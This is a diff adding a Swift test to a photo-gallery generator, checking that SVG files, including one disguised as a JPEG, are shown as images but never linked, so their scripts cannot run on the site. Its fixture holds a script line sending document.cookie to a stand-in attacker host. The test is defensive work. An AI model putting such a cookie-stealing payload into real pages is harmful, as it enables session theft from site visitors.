@@ -232,6 +232,33 @@ struct GalleryCommandTests {
     #expect(html.components(separatedBy: "<img").count == 2)
   }
 
+  @Test func anSVGIsShownButNotLinkedSoItsScriptCannotRunOnTheSite() throws {
+    let hostile = Array(
+      """
+      <svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">\
+      <script>fetch('https://evil.example/?c=' + document.cookie)</script>\
+      <rect width="40" height="30" fill="red"/></svg>
+      """.utf8)
+    let (root, photos) = try folder { photos in
+      try write(hostile, "evil.svg", in: photos)
+      try write(hostile, "disguised.jpg", in: photos)  // an SVG by its content
+      try write(png(30, 20), "photo.png", in: photos)
+    }
+    defer { try? FileManager.default.removeItem(at: root) }
+    let run = try Brickwork.run(["gallery", photos.path, "--quiet"])
+    #expect(run.status == 0 && run.stderr.isEmpty, "\(run.stderr)")
+    let html = try String(contentsOf: photos.appendingPathComponent("index.html"), encoding: .utf8)
+    let links = html.components(separatedBy: " href=\"").dropFirst().map {
+      String($0.prefix { $0 != "\"" })
+    }
+    #expect(links == ["photo.png"])
+    let sources = html.components(separatedBy: "<img src=\"").dropFirst().map {
+      String($0.prefix { $0 != "\"" })
+    }
+    #expect(sources == ["disguised.jpg", "evil.svg", "photo.png"])
+    #expect(!html.contains("evil.example"))
+  }
+
   @Test func aNameThatIsNotUTF8IsLinkedByItsBytes() throws {
     let (root, photos) = try folder { photos in
       // `f\u{FF}.png`: a byte no UTF-8 text holds, as old file systems and archives leave.
